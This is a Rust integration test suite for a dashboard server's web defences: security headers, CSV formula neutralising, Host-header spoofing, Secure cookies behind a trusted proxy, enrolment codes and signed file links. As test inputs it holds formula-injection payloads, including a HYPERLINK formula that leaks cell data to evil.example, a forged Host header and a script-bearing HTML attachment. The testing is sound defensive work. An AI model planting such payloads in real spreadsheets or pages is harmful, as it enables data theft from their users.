//! The dashboard's web security (issue 16) against a real server process: browser security
//! headers on every page, formula injection in CSV exports, export links that never follow the
//! `Host` header, `Secure` cookies behind a trusted TLS proxy only, repair refusals that do not
//! tell a missing document from an out-of-scope one, and enrolment codes for staff roles.

mod support;

use base64::Engine;
use doorstep_core::doc::DocumentKind;
use doorstep_core::ids::{DocumentId, GridId, HouseholdId};
use doorstep_core::model::{NewAttachment, NewRequest, NewVisit, Urgency, VisitKind};
use doorstep_core::sync::frame::encode_client;
use doorstep_core::sync::message::{ClientMessage, DocSyncMessage, ServerMessage, wire_id};
use doorstep_server::scope::Role;
use doorstep_server::storage::Storage;
use reqwest::StatusCode;
use serde_bytes::ByteBuf;
use support::*;

const PASSWORD: &str = "correct horse battery staple";

/// A server whose config file holds `toml`.
fn start_with_config(toml: &str) -> TestServer {
    let config_dir = tempfile::tempdir().expect("tempdir");
    let config = config_dir.path().join("web.toml");
    std::fs::write(&config, toml).expect("config");
    TestServer::start_with(
        tempfile::tempdir().expect("tempdir"),
        &["--config", config.to_str().expect("path")],
    )
}

fn http() -> reqwest::Client {
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client")
}

fn set_cookie_line(response: &reqwest::Response, name: &str) -> Option<String> {
    response
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with(&format!("{name}=")))
        .map(str::to_owned)
}

fn cookie_value(line: &str) -> String {
    line.split(';').next().unwrap_or("").split_once('=').map(|(_, v)| v.to_owned()).unwrap_or_default()
}

/// Creates a staff account for `member`; returns its login.
fn account(server: &TestServer, member: doorstep_core::ids::MemberId, login: &str) -> String {
    let hash = doorstep_server::auth::hash_password(PASSWORD).expect("hash");
    server
        .storage()
        .create_staff_account(member, login, &hash, doorstep_server::http::now())
        .expect("account");
    login.to_owned()
}

/// Signs in over plain HTTP with extra request headers; returns the sign-in response.
async fn sign_in_with(server: &TestServer, login: &str, extra: &[(&str, &str)]) -> reqwest::Response {
    let http = http();
    let form = http.get(format!("{}/dashboard/sign-in", server.url)).send().await.expect("form");
    let pre = cookie_value(&set_cookie_line(&form, "dsk_pre").expect("pre-session"));
    let mut post = http
        .post(format!("{}/dashboard/sign-in", server.url))
        .header("cookie", format!("dsk_pre={pre}"))
        .form(&[("login", login), ("password", PASSWORD), ("csrf", pre.as_str())]);
    for (name, value) in extra {
        post = post.header(*name, *value);
    }
    post.send().await.expect("sign in")
}

/// Signs in; returns the `cookie` header value of the session.
async fn session(server: &TestServer, login: &str) -> String {
    let response = sign_in_with(server, login, &[]).await;
    format!("dsk_session={}", cookie_value(&set_cookie_line(&response, "dsk_session").expect("session")))
}

async fn get(server: &TestServer, cookie: &str, path: &str) -> reqwest::Response {
    http().get(format!("{}{path}", server.url)).header("cookie", cookie).send().await.expect("answer")
}

fn csrf_of(html: &str) -> String {
    let start = html.find("name=\"csrf\" value=\"").expect("a csrf field") + "name=\"csrf\" value=\"".len();
    html[start..].split('"').next().expect("value").to_owned()
}

fn grid(storage: &dyn Storage, name: &str) -> GridId {
    storage.create_grid(name, "幸福社区", "城关街道").expect("grid")
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = String::from_utf8_lossy(bytes).trim_start_matches('\u{feff}').to_owned();
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
    reader.records().map(|r| r.expect("row").iter().map(str::to_owned).collect()).collect()
}

#[tokio::test]
async fn every_dashboard_page_carries_the_browser_security_headers() {
    let server = TestServer::start();
    let storage = server.storage();
    let g = grid(&*storage, "第一网格");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let admin = member(&*storage, "管理员", Role::Admin, &[]);
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "worker", worker).await;
    let home = phone.create_household(&household(g, "301", "陈奶奶"), t(0)).expect("household");
    let vid = phone
        .record_visit(
            home,
            &NewVisit { at: t(1), kind: VisitKind::Routine, notes: "走访".into(), needs: vec![] },
        )
        .expect("visit");
    let photo =
        NewAttachment { media_type: "image/jpeg".into(), name: "a.jpg".into(), bytes: vec![0xFF; 64] };
    let reference = phone.attach_to_visit(home, vid, &photo, t(2)).expect("attach");
    let req = phone
        .raise_request(&NewRequest {
            household: Some(home),
            grid: None,
            category: "elderly_care".into(),
            description: "漏水".into(),
            urgency: Urgency::Normal,
            at: t(3),
        })
        .expect("request");
    server.client().sync(&mut phone).await.expect("sync");
    let mut access = &mut phone;
    server
        .client()
        .transfer_attachments(
            &mut access,
            &doorstep_client::TransferOptions::default(),
            &mut doorstep_client::NoTransferObserver,
        )
        .await
        .expect("photo");
    let login = account(&server, admin, "admin");
    let cookie = session(&server, &login).await;

    let fill = |pattern: &str| {
        pattern
            .replace("{doc}", &home.to_string())
            .replace("{hash}", &reference.hash.to_string())
            .replace("{file}", "visits.csv")
            .replace(
                "{id}",
                &if pattern.contains("requests") {
                    req.to_string()
                } else if pattern.contains("grids") {
                    g.to_string()
                } else {
                    home.to_string()
                },
            )
    };
    let mut checked = 0;
    for pattern in doorstep_server::dashboard::GET_ROUTES.iter().chain(&["/dashboard/no-such-page"]) {
        for signed_in in [true, false] {
            let path = fill(pattern);
            let response = get(&server, if signed_in { &cookie } else { "" }, &path).await;
            let ctx = format!("{path} (signed in: {signed_in}, {})", response.status());
            let h = response.headers().clone();
            let header = |name: &str| h.get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
            let csp = header("content-security-policy");
            assert!(csp.contains("default-src 'none'"), "{ctx}: CSP {csp:?}");
            assert!(csp.contains("frame-ancestors 'none'"), "{ctx}: CSP {csp:?}");
            assert!(!csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"), "{ctx}: CSP {csp:?}");
            assert_eq!(header("x-frame-options"), "DENY", "{ctx}");
            assert_eq!(header("x-content-type-options"), "nosniff", "{ctx}");
            assert_eq!(header("referrer-policy"), "same-origin", "{ctx}");
            assert!(header("cache-control").contains("no-store"), "{ctx}: {:?}", header("cache-control"));
            // The one inline style sheet is allowed by its hash, and nothing else inline.
            if header("content-type").starts_with("text/html") {
                let html = response.text().await.expect("html");
                for forbidden in ["<script", " onclick=", " onload=", " onsubmit=", " style=\""] {
                    assert!(!html.contains(forbidden), "{ctx}: {forbidden} in the page");
                }
                if let Some(start) = html.find("<style>") {
                    let css = &html[start + 7..html[start..].find("</style>").expect("closed") + start];
                    let digest: [u8; 32] = sha2::Digest::finalize(sha2::Digest::chain_update(
                        sha2::Sha256::default(),
                        css.as_bytes(),
                    ))
                    .into();
                    let hash = base64::engine::general_purpose::STANDARD.encode(digest);
                    assert!(
                        csp.contains(&format!("'sha256-{hash}'")),
                        "{ctx}: the style's hash is not allowed"
                    );
                }
            }
            checked += 1;
        }
    }
    assert!(checked >= 30, "{checked} pages checked");
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_and_xlsx_keeps_them_as_text() {
    let server = TestServer::start();
    let storage = server.storage();
    let g = grid(&*storage, "第一网格");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let boss = member(&*storage, "李主任", Role::Supervisor, &[g]);
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "worker", worker).await;
    // (Leading tabs and carriage returns never reach a record: the core trims typed text. The
    // unit test `dashboard::export::tests` covers them.)
    let hostile =
        ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")", "+1+1", "-2+3", "@SUM(A1)", " =1+1"];
    let home = phone.create_household(&household(g, "=1+2", "陈奶奶"), t(0)).expect("household");
    for (n, notes) in hostile.iter().enumerate() {
        phone
            .record_visit(
                home,
                &NewVisit {
                    at: t(1 + n as i64),
                    kind: VisitKind::Routine,
                    notes: (*notes).into(),
                    needs: vec![],
                },
            )
            .expect("visit");
    }
    phone
        .raise_request(&NewRequest {
            household: Some(home),
            grid: None,
            category: "elderly_care".into(),
            description: hostile[0].into(),
            urgency: Urgency::Normal,
            at: t(9),
        })
        .expect("request");
    server.client().sync(&mut phone).await.expect("sync");
    let cookie = session(&server, &account(&server, boss, "li")).await;

    let visits = get(&server, &cookie, "/dashboard/export/visits.csv").await.bytes().await.expect("csv");
    let rows = csv_rows(&visits);
    assert_eq!(rows.len(), hostile.len(), "{rows:?}");
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for notes in hostile {
        let notes = notes.trim();
        assert!(cells.iter().any(|c| **c == format!("'{notes}")), "{notes:?} not neutralised: {rows:?}");
    }
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula cell {cell:?}: {rows:?}"
        );
    }
    let ledger = get(&server, &cookie, "/dashboard/export/ledger.csv").await.bytes().await.expect("csv");
    let rows = csv_rows(&ledger);
    assert!(rows.iter().flatten().any(|c| *c == format!("'{}", hostile[0])), "{rows:?}");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula cell {cell:?}");
    }
    // XLSX writes strings as strings: the text is kept as the worker typed it.
    let xlsx = get(&server, &cookie, "/dashboard/export/visits.xlsx").await.bytes().await.expect("xlsx");
    let mut book: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.to_vec())).expect("workbook");
    let sheet = calamine::Reader::worksheet_range_at(&mut book, 0).expect("a sheet").expect("range");
    let texts: Vec<String> = sheet.rows().flatten().map(|c| c.to_string()).collect();
    assert!(texts.iter().any(|c| c == hostile[0]), "{texts:?}");
}

#[tokio::test]
async fn export_links_never_follow_the_host_header() {
    // With a public URL configured, links start with it whatever `Host` says.
    let server = start_with_config("public_url = \"https://doorstep.county.example\"\n");
    let storage = server.storage();
    let g = grid(&*storage, "第一网格");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let boss = member(&*storage, "李主任", Role::Supervisor, &[g]);
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "worker", worker).await;
    let home = phone.create_household(&household(g, "301", "陈奶奶"), t(0)).expect("household");
    let vid = phone
        .record_visit(
            home,
            &NewVisit { at: t(1), kind: VisitKind::Routine, notes: "走访".into(), needs: vec![] },
        )
        .expect("visit");
    let photo =
        NewAttachment { media_type: "image/jpeg".into(), name: "a.jpg".into(), bytes: vec![0xFF; 64] };
    let reference = phone.attach_to_visit(home, vid, &photo, t(2)).expect("attach");
    server.client().sync(&mut phone).await.expect("sync");
    let cookie = session(&server, &account(&server, boss, "li")).await;
    let link = format!("/dashboard/attachments/{home}/{}", reference.hash);
    let csv = http()
        .get(format!("{}/dashboard/export/visits.csv", server.url))
        .header("cookie", &cookie)
        .header("host", "evil.example")
        .send()
        .await
        .expect("export")
        .text()
        .await
        .expect("text");
    assert!(!csv.contains("evil.example"), "{csv}");
    assert!(csv.contains(&format!("https://doorstep.county.example{link}")), "{csv}");
    drop(server);

    // Without one, links are relative to the server.
    let server = TestServer::start();
    let storage = server.storage();
    let g = grid(&*storage, "第一网格");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let boss = member(&*storage, "李主任", Role::Supervisor, &[g]);
    let mut phone = device(&server, dir.path(), "worker2", worker).await;
    let home = phone.create_household(&household(g, "301", "陈奶奶"), t(0)).expect("household");
    let vid = phone
        .record_visit(
            home,
            &NewVisit { at: t(1), kind: VisitKind::Routine, notes: "走访".into(), needs: vec![] },
        )
        .expect("visit");
    let reference = phone.attach_to_visit(home, vid, &photo, t(2)).expect("attach");
    server.client().sync(&mut phone).await.expect("sync");
    let cookie = session(&server, &account(&server, boss, "li")).await;
    let csv = http()
        .get(format!("{}/dashboard/export/visits.csv", server.url))
        .header("cookie", &cookie)
        .header("host", "evil.example")
        .send()
        .await
        .expect("export")
        .text()
        .await
        .expect("text");
    assert!(!csv.contains("evil.example"), "{csv}");
    assert!(csv.contains(&format!(",/dashboard/attachments/{home}/{}", reference.hash)), "{csv}");
}

#[tokio::test]
async fn a_forwarded_proto_header_makes_cookies_secure_only_from_a_trusted_proxy() {
    for (toml, trusted) in [
        ("", false),
        ("trusted_proxies = [\"10.9.9.9\"]\n", false),
        ("trusted_proxies = [\"127.0.0.1\"]\n", true),
    ] {
        let server = start_with_config(toml);
        let admin = member(&*server.storage(), "管理员", Role::Admin, &[]);
        let login = account(&server, admin, "admin");
        let response = sign_in_with(&server, &login, &[("x-forwarded-proto", "https")]).await;
        let line = set_cookie_line(&response, "dsk_session").expect("session cookie");
        assert_eq!(line.contains("; Secure"), trusted, "{toml:?}: {line}");
        let response = sign_in_with(&server, &login, &[]).await;
        let line = set_cookie_line(&response, "dsk_session").expect("session cookie");
        assert!(!line.contains("; Secure"), "{toml:?}: plain HTTP without the header: {line}");
    }
}

/// The error message of a repair asking for `target`, with the document's id taken out.
async fn repair_refusal(server: &TestServer, token: &str, target: DocumentId) -> (String, String) {
    let mut probe = automerge::AutoCommit::new();
    let ask =
        automerge::sync::SyncDoc::generate_sync_message(&probe.sync(), &mut automerge::sync::State::new())
            .expect("a first message");
    let repair = ClientMessage::Repair(vec![DocSyncMessage {
        doc: wire_id(target),
        kind: DocumentKind::Household,
        message: ByteBuf::from(ask.encode()),
    }]);
    let reply = server.client().post_frame(token, encode_client(&repair)).await.expect("a frame comes back");
    match doorstep_client::decode_reply(&reply).expect("decodable") {
        ServerMessage::Error(e) => (format!("{:?}", e.code), e.message.replace(&target.to_string(), "<id>")),
        other => panic!("repair of {target} was answered: {other:?}"),
    }
}

#[tokio::test]
async fn a_repair_refusal_does_not_tell_a_missing_document_from_an_out_of_scope_one() {
    let server = TestServer::start();
    let storage = server.storage();
    let (a, b) = (grid(&*storage, "甲网格"), grid(&*storage, "乙网格"));
    let dir = devices_dir();
    let mut other = device(&server, dir.path(), "b", member(&*storage, "乙", Role::GridWorker, &[b])).await;
    let foreign = other.create_household(&household(b, "101", "赵大爷"), t(0)).expect("household");
    server.client().sync(&mut other).await.expect("sync");
    let phone = device(&server, dir.path(), "a", member(&*storage, "甲", Role::GridWorker, &[a])).await;
    let token = phone.enrolment().expect("e").expect("enrolled").token;
    let missing = repair_refusal(&server, &token, HouseholdId::new_random().into()).await;
    let out_of_scope = repair_refusal(&server, &token, foreign.into()).await;
    assert_eq!(missing, out_of_scope, "the two refusals differ, so ids can be probed");
}

#[tokio::test]
async fn enrolment_codes_for_staff_roles_need_the_administrators_password_and_are_not_cached() {
    let server = TestServer::start();
    let storage = server.storage();
    let g = grid(&*storage, "第一网格");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let boss = member(&*storage, "李主任", Role::Supervisor, &[g]);
    let other_admin = member(&*storage, "副管理员", Role::Admin, &[]);
    let admin = member(&*storage, "管理员", Role::Admin, &[]);
    let cookie = session(&server, &account(&server, admin, "admin")).await;
    let page = get(&server, &cookie, "/dashboard/admin").await.text().await.expect("page");
    let csrf = csrf_of(&page);
    let post = |fields: Vec<(&'static str, String)>| {
        let cookie = cookie.clone();
        let url = format!("{}/dashboard/admin/enrol-code", server.url);
        async move { http().post(url).header("cookie", cookie).form(&fields).send().await.expect("post") }
    };
    let has_code = |html: &str| html.contains("id=\"code\"");
    for staff in [boss, other_admin] {
        let response = post(vec![("csrf", csrf.clone()), ("member", staff.to_string())]).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "a staff code without the password");
        assert!(!has_code(&response.text().await.expect("body")));
        let response = post(vec![
            ("csrf", csrf.clone()),
            ("member", staff.to_string()),
            ("password", "wrong password".into()),
        ])
        .await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "a staff code with a wrong password");
        assert!(!has_code(&response.text().await.expect("body")));
        let response =
            post(vec![("csrf", csrf.clone()), ("member", staff.to_string()), ("password", PASSWORD.into())])
                .await;
        assert_eq!(response.status(), StatusCode::OK);
        assert!(
            response
                .headers()
                .get("cache-control")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .contains("no-store")
        );
        assert!(has_code(&response.text().await.expect("body")), "the code is shown in that response");
    }
    // A grid worker's code needs no password.
    let response = post(vec![("csrf", csrf.clone()), ("member", worker.to_string())]).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(has_code(&response.text().await.expect("body")));
}

#[tokio::test]
async fn dashboard_files_are_served_outside_the_cookie_path_through_short_lived_signed_links() {
    let server = TestServer::start();
    let storage = server.storage();
    let g = grid(&*storage, "第一网格");
    let worker = member(&*storage, "王芳", Role::GridWorker, &[g]);
    let boss = member(&*storage, "李主任", Role::Supervisor, &[g]);
    let dir = devices_dir();
    let mut phone = device(&server, dir.path(), "worker", worker).await;
    let home = phone.create_household(&household(g, "301", "陈奶奶"), t(0)).expect("household");
    let vid = phone
        .record_visit(
            home,
            &NewVisit { at: t(1), kind: VisitKind::Routine, notes: "走访".into(), needs: vec![] },
        )
        .expect("visit");
    let page = b"<html><script>alert(1)</script></html>".to_vec();
    let file = NewAttachment { media_type: "text/html".into(), name: "a.jpg".into(), bytes: page.clone() };
    let reference = phone.attach_to_visit(home, vid, &file, t(2)).expect("attach");
    server.client().sync(&mut phone).await.expect("sync");
    let mut access = &mut phone;
    server
        .client()
        .transfer_attachments(
            &mut access,
            &doorstep_client::TransferOptions::default(),
            &mut doorstep_client::NoTransferObserver,
        )
        .await
        .expect("upload");
    let cookie = session(&server, &account(&server, boss, "li")).await;
    // The session cookie is scoped to the dashboard's pages.
    let response = sign_in_with(&server, "li", &[]).await;
    assert!(set_cookie_line(&response, "dsk_session").expect("cookie").contains("Path=/dashboard;"));

    let answer = get(&server, &cookie, &format!("/dashboard/attachments/{home}/{}", reference.hash)).await;
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    let location = answer.headers()["location"].to_str().expect("ascii").to_owned();
    assert!(location.starts_with(&format!("/files/{home}/{}?", reference.hash)), "{location}");
    // The link needs no cookie, serves the bytes for download, sandboxed.
    let file = http().get(format!("{}{location}", server.url)).send().await.expect("file");
    assert_eq!(file.status(), StatusCode::OK);
    let h = file.headers().clone();
    assert_eq!(h["content-type"], "application/octet-stream");
    assert!(h["content-disposition"].to_str().expect("ascii").starts_with("attachment"));
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert!(h["content-security-policy"].to_str().expect("ascii").contains("sandbox"));
    assert_eq!(file.bytes().await.expect("body").to_vec(), page);
    // A link altered to name another file, or with its life stretched, serves nothing.
    let other = location.replace(&reference.hash.to_string(), &"0".repeat(64));
    assert_eq!(http().get(format!("{}{other}", server.url)).send().await.expect("answer").status(), 404);
    let (head, sig) = location.split_once("&sig=").expect("signed");
    let expires: i64 = head.split("expires=").nth(1).expect("expires").parse().expect("number");
    let stretched =
        format!("{}expires={}&sig={sig}", head.split("expires=").next().expect("path"), expires + 86_400_000);
    assert_eq!(http().get(format!("{}{stretched}", server.url)).send().await.expect("answer").status(), 404);
    let unsigned = head.to_owned();
    assert_eq!(http().get(format!("{}{unsigned}", server.url)).send().await.expect("answer").status(), 400);
}
